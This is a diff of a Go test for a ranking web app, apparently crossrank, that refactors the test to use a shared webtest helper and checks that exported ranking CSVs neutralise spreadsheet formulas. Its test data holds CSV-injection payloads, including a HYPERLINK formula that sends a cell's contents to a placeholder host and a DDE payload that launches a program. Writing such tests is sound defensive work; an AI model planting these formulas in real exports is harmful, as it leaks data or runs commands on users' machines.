@@ -1,4 +1,4 @@
-package web
+package site_test
 
 import (
 	"encoding/csv"
@@ -11,6 +11,7 @@ import (
 	"github.com/crossrank/crossrank/domain/demo"
 	"github.com/crossrank/crossrank/domain/rankfile"
 	"github.com/crossrank/crossrank/events"
+	"github.com/crossrank/crossrank/web/webtest"
 )
 
 // formulas are names a spreadsheet would run (OWASP's CSV injection).
@@ -24,7 +25,7 @@ var formulas = []string{`=HYPERLINK("http://x?"&A1,"c")`, `+cmd|' /C calc'!A0`, 
 // with no formula character; the numbers stay numbers.
 func TestRankingCSVRunsNoFormula(t *testing.T) {
 	t.Parallel()
-	e := newAdminEnv(t)
+	e := webtest.NewAdmin(t)
 	const slug = "formulas"
 	f := demo.File()
 	f.Slug = slug
@@ -32,39 +33,39 @@ func TestRankingCSVRunsNoFormula(t *testing.T) {
 		f.Entries[i].Name.En = name
 	}
 	ed := domain.Actor{Name: "ed", Roles: []string{domain.RoleEditor}, Via: events.Via{Method: events.ViaCLI}}
-	rep, err := rankfile.Import(e.ctx, e.cmd, f, ed)
+	rep, err := rankfile.Import(e.Ctx, e.Cmd, f, ed)
 	if err != nil {
 		t.Fatalf("import: %v", err)
 	}
 	ids := append([]string{rep.Definition}, rep.Proposals...)
 	for _, id := range ids {
-		p, err := e.cmd.Proposal(e.ctx, id)
+		p, err := e.Cmd.Proposal(e.Ctx, id)
 		if err != nil {
 			t.Fatal(err)
 		}
 		for _, v := range []string{"rev", "rex"} {
-			if _, err := e.cmd.CastVote(e.ctx, domain.Actor{Name: v, Roles: []string{domain.RoleReviewer}},
+			if _, err := e.Cmd.CastVote(e.Ctx, domain.Actor{Name: v, Roles: []string{domain.RoleReviewer}},
 				domain.CastVote{Proposal: id, Revision: p.Revision, Verdict: events.Approve, VerifiedEvidence: p.EvidenceIDs()}); err != nil {
 				t.Fatalf("%s approves %s: %v", v, id, err)
 			}
 		}
 	}
-	pv, _, err := e.cmd.PreviewEdition(e.ctx, slug, ids)
+	pv, _, err := e.Cmd.PreviewEdition(e.Ctx, slug, ids)
 	if err != nil {
 		t.Fatal(err)
 	}
-	e.caughtUp()
-	head, seq, err := e.read.AuditHead(e.ctx)
+	e.CaughtUp()
+	head, seq, err := e.Read.AuditHead(e.Ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, err := e.cmd.Publish(e.ctx, domain.Actor{Name: "pat", Roles: []string{domain.RolePublisher}}, domain.PublishEdition{
+	if _, err := e.Cmd.Publish(e.Ctx, domain.Actor{Name: "pat", Roles: []string{domain.RolePublisher}}, domain.PublishEdition{
 		Ranking: slug, Proposals: ids, PreviewHash: pv.Hash, AuditHead: head, AuditSeq: seq}); err != nil {
 		t.Fatal(err)
 	}
-	e.caughtUp()
+	e.CaughtUp()
 
-	res, body := e.client("").do(http.MethodGet, "/r/"+slug+"/editions/1/ranking.csv", nil, nil)
+	res, body := e.Client("").Do(http.MethodGet, "/r/"+slug+"/editions/1/ranking.csv", nil, nil)
 	if res.StatusCode != http.StatusOK {
 		t.Fatalf("ranking.csv: status %d; %.300s", res.StatusCode, body)
 	}
